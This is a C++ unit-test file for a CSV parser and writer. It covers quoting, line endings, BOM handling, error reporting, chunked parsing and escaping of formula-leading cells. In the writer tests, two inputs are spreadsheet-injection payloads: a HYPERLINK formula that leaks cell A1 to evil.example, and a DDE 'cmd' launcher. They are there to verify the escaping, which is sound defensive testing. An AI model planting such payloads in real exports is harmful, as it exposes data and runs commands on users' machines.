// Tests for core/domain/csv.cpp: RFC 4180 quoting, line ends, BOM, physical line numbers,
// malformed records, and that feeding the same text in any chunking gives the same records.
#include "domain/csv.hpp"

#include <gtest/gtest.h>
#include <rapidcheck/gtest.h>

#include <string>
#include <vector>

namespace daybreak {
namespace {

std::vector<CsvRecord> parse(std::string_view text, CsvLimits limits = {}) {
  std::vector<CsvRecord> out;
  parse_csv(text, [&](const CsvRecord& r) { out.push_back(r); }, limits);
  return out;
}

std::vector<CsvRecord> parse_chunked(std::string_view text, std::size_t chunk) {
  std::vector<CsvRecord> out;
  CsvParser p([&](const CsvRecord& r) { out.push_back(r); });
  for (std::size_t i = 0; i < text.size(); i += chunk) p.feed(text.substr(i, chunk));
  p.finish();
  return out;
}

using Fields = std::vector<std::string>;

TEST(Csv, PlainRecordsWithLineNumbers) {
  auto r = parse("a,b,c\n1,2,3\n");
  ASSERT_EQ(r.size(), 2U);
  EXPECT_EQ(r[0].fields, (Fields{"a", "b", "c"}));
  EXPECT_EQ(r[0].line, 1U);
  EXPECT_EQ(r[1].fields, (Fields{"1", "2", "3"}));
  EXPECT_EQ(r[1].line, 2U);
  EXPECT_TRUE(r[1].error.empty());
}

TEST(Csv, LastLineWithoutNewline) {
  auto r = parse("a,b\n1,2");
  ASSERT_EQ(r.size(), 2U);
  EXPECT_EQ(r[1].fields, (Fields{"1", "2"}));
}

TEST(Csv, EmptyFieldsAndTrailingComma) {
  auto r = parse(",a,,\n");
  ASSERT_EQ(r.size(), 1U);
  EXPECT_EQ(r[0].fields, (Fields{"", "a", "", ""}));
}

TEST(Csv, QuotedFieldsWithCommasQuotesAndNewlines) {
  auto r = parse("id,body\n1,\"Hello, \"\"world\"\"\nsecond line\"\n2,x\n");
  ASSERT_EQ(r.size(), 3U);
  EXPECT_EQ(r[1].fields, (Fields{"1", "Hello, \"world\"\nsecond line"}));
  EXPECT_EQ(r[1].line, 2U);
  // The embedded newline moved the physical line on: the next record starts on line 4.
  EXPECT_EQ(r[2].line, 4U);
  EXPECT_EQ(r[2].fields, (Fields{"2", "x"}));
}

TEST(Csv, EmptyQuotedField) {
  auto r = parse("\"\",\"\"\n");
  ASSERT_EQ(r.size(), 1U);
  EXPECT_EQ(r[0].fields, (Fields{"", ""}));
}

TEST(Csv, CrLfLineEnds) {
  auto r = parse("a,b\r\n1,\"x\"\r\n2,y\r\n");
  ASSERT_EQ(r.size(), 3U);
  EXPECT_EQ(r[1].fields, (Fields{"1", "x"}));
  EXPECT_EQ(r[2].fields, (Fields{"2", "y"}));
  EXPECT_EQ(r[2].line, 3U);
  for (const auto& rec : r) EXPECT_TRUE(rec.error.empty()) << rec.error;
}

TEST(Csv, CrLfInsideQuotesIsKept) {
  auto r = parse("\"a\r\nb\",c\r\n");
  ASSERT_EQ(r.size(), 1U);
  EXPECT_EQ(r[0].fields, (Fields{"a\r\nb", "c"}));
}

TEST(Csv, ByteOrderMarkIsDropped) {
  auto r = parse("\xEF\xBB\xBF" "advisor_id,name\n");
  ASSERT_EQ(r.size(), 1U);
  EXPECT_EQ(r[0].fields[0], "advisor_id");
}

TEST(Csv, PartialBomIsData) {
  auto r = parse("\xEF\xBBx,y\n");
  ASSERT_EQ(r.size(), 1U);
  EXPECT_EQ(r[0].fields[0], "\xEF\xBBx");
}

TEST(Csv, BlankLinesAreSkippedButCounted) {
  auto r = parse("a\n\n\r\nb\n\n");
  ASSERT_EQ(r.size(), 2U);
  EXPECT_EQ(r[1].fields, (Fields{"b"}));
  EXPECT_EQ(r[1].line, 4U);
}

TEST(Csv, UnterminatedQuoteIsFatalAndNamesItsLine) {
  auto r = parse("a,b\n1,2\n3,\"never closed\n4,5\n");
  ASSERT_EQ(r.size(), 3U);
  EXPECT_EQ(r[2].line, 3U);
  EXPECT_EQ(r[2].error, "unterminated quoted field");
  EXPECT_TRUE(r[2].fatal);
}

TEST(Csv, StrayQuoteInUnquotedFieldMarksTheRecordAndParsingGoesOn) {
  auto r = parse("a,b\"c\nd,e\n");
  ASSERT_EQ(r.size(), 2U);
  EXPECT_EQ(r[0].error, "field 2: stray quote in an unquoted field (quote the whole field and double the quote)");
  EXPECT_FALSE(r[0].fatal);
  EXPECT_TRUE(r[1].error.empty());
  EXPECT_EQ(r[1].fields, (Fields{"d", "e"}));
}

TEST(Csv, TextAfterClosingQuoteMarksTheRecord) {
  auto r = parse("\"ab\"c,d\nx,y\n");
  ASSERT_EQ(r.size(), 2U);
  EXPECT_EQ(r[0].error, "field 1: text after the closing quote");
  EXPECT_EQ(r[0].fields.size(), 2U);
  EXPECT_TRUE(r[1].error.empty());
}

TEST(Csv, LoneCarriageReturnIsData) {
  auto r = parse("a\rb,c\n");
  ASSERT_EQ(r.size(), 1U);
  EXPECT_EQ(r[0].fields, (Fields{"a\rb", "c"}));
}

TEST(Csv, OversizeRecordIsFatal) {
  CsvLimits small;
  small.max_record_bytes = 16;
  auto r = parse("ok,1\n\"" + std::string(100, 'x') + "\"\nmore,2\n", small);
  ASSERT_EQ(r.size(), 2U);
  EXPECT_TRUE(r[1].fatal);
  EXPECT_EQ(r[1].line, 2U);
  EXPECT_EQ(r[1].error, "record longer than 16 bytes (an unterminated quoted field?)");
}

TEST(Csv, EveryChunkingGivesTheSameRecords) {
  const std::string text =
      "\xEF\xBB\xBF" "id,body,x\r\n1,\"a,\"\"b\"\"\r\nc\",z\r\n\r\n2,plain,\"\"\r\n3,\"q\"x,y\n4,last,";
  auto whole = parse(text);
  for (std::size_t chunk = 1; chunk <= text.size(); ++chunk) {
    auto parts = parse_chunked(text, chunk);
    ASSERT_EQ(parts.size(), whole.size()) << "chunk " << chunk;
    for (std::size_t i = 0; i < whole.size(); ++i) {
      EXPECT_EQ(parts[i].fields, whole[i].fields) << "chunk " << chunk << " record " << i;
      EXPECT_EQ(parts[i].line, whole[i].line) << "chunk " << chunk << " record " << i;
      EXPECT_EQ(parts[i].error, whole[i].error) << "chunk " << chunk << " record " << i;
    }
  }
}

// Property: any table of fields, written out with RFC 4180 quoting, parses back to itself.
RC_GTEST_PROP(CsvProperty, QuotedRoundTrip, ()) {
  const auto rows = *rc::gen::nonEmpty(rc::gen::container<std::vector<std::vector<std::string>>>(
      rc::gen::nonEmpty(rc::gen::container<std::vector<std::string>>(
          rc::gen::container<std::string>(rc::gen::element('a', ',', '"', '\n', '\r', ' ', 'z'))))));
  const bool crlf = *rc::gen::arbitrary<bool>();
  std::string text;
  for (const auto& row : rows) {
    for (std::size_t i = 0; i < row.size(); ++i) {
      if (i) text += ',';
      text += '"';
      for (char c : row[i]) {
        if (c == '"') text += '"';
        text += c;
      }
      text += '"';
    }
    text += crlf ? "\r\n" : "\n";
  }
  auto got = parse_chunked(text, *rc::gen::inRange<std::size_t>(1, 64));
  RC_ASSERT(got.size() == rows.size());
  for (std::size_t i = 0; i < rows.size(); ++i) {
    RC_ASSERT(got[i].error.empty());
    RC_ASSERT(got[i].fields == rows[i]);
  }
}

}  // namespace
}  // namespace daybreak

// ---- the writer: formula-leading text cells are neutralised (daybreak export --format csv) ----

namespace daybreak {
namespace {

std::string written_cell(std::string_view v, bool text = true) {
  std::string out;
  csv_write_field(out, v, text);
  return out;
}

TEST(CsvWriteTest, FormulaLeadingTextCellsGetALeadingQuote) {
  EXPECT_EQ(written_cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"), "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"");
  EXPECT_EQ(written_cell("+91 98100 12345"), "'+91 98100 12345");  // a phone-like id typed as text
  EXPECT_EQ(written_cell("-1+1"), "'-1+1");                       // an advisor id
  EXPECT_EQ(written_cell("@SUM(1+1)*cmd|' /C calc'!A0"), "'@SUM(1+1)*cmd|' /C calc'!A0");
  EXPECT_EQ(written_cell("status failed: 131026 =cmd"), "status failed: 131026 =cmd");  // only the first character counts
  EXPECT_EQ(written_cell("\t=1"), "'\t=1");
  EXPECT_EQ(written_cell("\r=1"), "\"'\r=1\"");  // neutralised and, holding a CR, quoted
  EXPECT_EQ(written_cell(""), "");
  EXPECT_EQ(written_cell("A-17"), "A-17");
}

TEST(CsvWriteTest, NumbersAndHeadersAreWrittenAsTheyAre) {
  EXPECT_EQ(written_cell("-5", false), "-5");      // a number SQLite holds as a number stays a number
  EXPECT_EQ(written_cell("-0.25", false), "-0.25");
  EXPECT_EQ(written_cell("a,b", false), "\"a,b\"");  // quoting still applies
  EXPECT_TRUE(csv_formula_leading("=1"));
  EXPECT_FALSE(csv_formula_leading("1=1"));
}

TEST(CsvWriteTest, NeutralisedCellsReadBackAsTextWithTheQuote) {
  std::string line;
  csv_write_field(line, "=1+2", true);
  line.push_back(',');
  csv_write_field(line, "-3,\"x\"", true);
  std::vector<CsvRecord> recs;
  parse_csv(line + "\n", [&](const CsvRecord& r) { recs.push_back(r); });
  ASSERT_EQ(recs.size(), 1u);
  ASSERT_EQ(recs[0].fields.size(), 2u);
  EXPECT_EQ(recs[0].fields[0], "'=1+2");
  EXPECT_EQ(recs[0].fields[1], "'-3,\"x\"");
}

}  // namespace
}  // namespace daybreak
